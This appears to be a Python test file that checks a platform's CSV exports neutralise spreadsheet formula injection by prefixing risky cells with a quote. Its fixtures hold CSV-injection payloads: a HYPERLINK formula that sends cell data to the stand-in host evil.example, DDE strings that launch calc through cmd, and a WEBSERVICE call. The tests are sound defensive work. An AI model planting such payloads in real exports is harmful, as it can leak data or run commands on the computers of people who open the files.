"""CSV formula injection (issue 13, item 6): every CSV the platform writes neutralises cells that
a spreadsheet would run as a formula (the OWASP rule), for every export shape."""

from __future__ import annotations

import csv
import io

import pytest

from analysis.tables import to_csv
from annotate import exporting, services
from core.spreadsheet import csv_safe
from tests.conftest import jsonl
from tests.factories import UserFactory, pair_record
from tests.typedata import jsonl_bytes, tom_record

HOSTILE = {
    "prompt": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "response_a": "@SUM(1+1)*cmd|' /C calc'!A0",
    "response_b": "+1+cmd|' /C calc'!A0",
    "model_a": "-2+3",
    "model_b": "\tmodel",
}


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode())))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_a_formula_is_prefixed_with_a_quote(start):
    assert csv_safe(f"{start}cmd()") == f"'{start}cmd()"


@pytest.mark.parametrize("value", ["-1", "+2", "-0.5", "-2e3", "plain", "a=b", "", 3, -1.5, None])
def test_numbers_and_ordinary_text_are_unchanged(value):
    assert csv_safe(value) == value


def test_csv_bytes_neutralises_formula_cells_and_keeps_numbers():
    rows = [{"a": "=1+1", "b": -1, "c": "-1", "d": {"k": "=x"}, "e": "ok"}]
    data = b"".join(exporting.csv_bytes(rows))
    assert csv_rows(data) == [{"a": "'=1+1", "b": "-1", "c": "-1", "d": '{"k": "=x"}', "e": "ok"}]


@pytest.fixture
def hostile_project(project, make_annotator):
    services.items_import(project=project, stream=jsonl([pair_record(1, **HOSTILE)]), fmt="jsonl")
    for name in ("a1", "a2", "a3"):
        user = make_annotator(name)
        assignment = services.assignment_reserve_next(project=project, annotator=user)
        services.annotation_submit(
            assignment_id=assignment.pk,
            annotator=user,
            value={"preference": -2, "rationale": '=WEBSERVICE("http://evil.example")'},
        )
    return project


def export_csv(api, lead, project, shape: str) -> list[dict[str, str]]:
    response = api(lead).get(f"/api/v1/projects/{project.pk}/export/?shape={shape}&format=csv")
    assert response.status_code == 200
    return csv_rows(b"".join(response.streaming_content))


def test_annotations_csv_neutralises_formula_cells(hostile_project, lead, api):
    rows = export_csv(api, lead, hostile_project, "annotations")
    assert len(rows) == 3
    assert {row["external_id"] for row in rows} == {"pair-1"}
    assert all(not row["value"].startswith(("=", "+", "-", "@")) for row in rows)


def test_items_csv_neutralises_formula_cells(hostile_project, lead, api):
    [row] = export_csv(api, lead, hostile_project, "items")
    for field, text in HOSTILE.items():
        assert row[field] == "'" + text, field
    assert row["majority_label"] == "-2"  # a number stays a number


def test_preference_pairs_csv_neutralises_formula_cells(hostile_project, lead, api):
    [row] = export_csv(api, lead, hostile_project, "preference_pairs")
    assert row["prompt"] == "'" + HOSTILE["prompt"]
    assert row["chosen"] == "'" + HOSTILE["response_a"]
    assert row["rejected"] == "'" + HOSTILE["response_b"]
    assert row["chosen_model"] == "'" + HOSTILE["model_a"]
    assert row["rejected_model"] == "'" + HOSTILE["model_b"]


def test_analysis_table_csv_neutralises_formula_cells():
    text = to_csv((["name", "value"], [["=1+1", -1], ["@x", 0.5]]))
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "value"],
        ["'=1+1", "-1"],
        ["'@x", "0.5"],
    ]


def test_tom_answers_csv_neutralises_a_formula_username(lead):
    project = services.project_create(name="tom", task_type="tom", created_by=lead, overlap=1)
    services.items_import(
        project=project, stream=io.BytesIO(jsonl_bytes([tom_record(1)])), fmt="jsonl"
    )
    user = UserFactory(username="@SUM(1+1)")  # letters, digits and @.+-_ pass Django's validator
    services.membership_add(project=project, user=user, role="annotator")
    assignment = services.assignment_reserve_next(project=project, annotator=user)
    services.annotation_submit(
        assignment_id=assignment.pk,
        annotator=user,
        value={"answers": {"aware": "B", "action": "A", "judge": "A"}},
    )
    rows = exporting.export_rows(project, shape="tom_answers", identities=True)
    parsed = csv_rows(b"".join(exporting.csv_bytes(rows)))
    assert parsed and {row["annotator"] for row in parsed} == {"'@SUM(1+1)"}
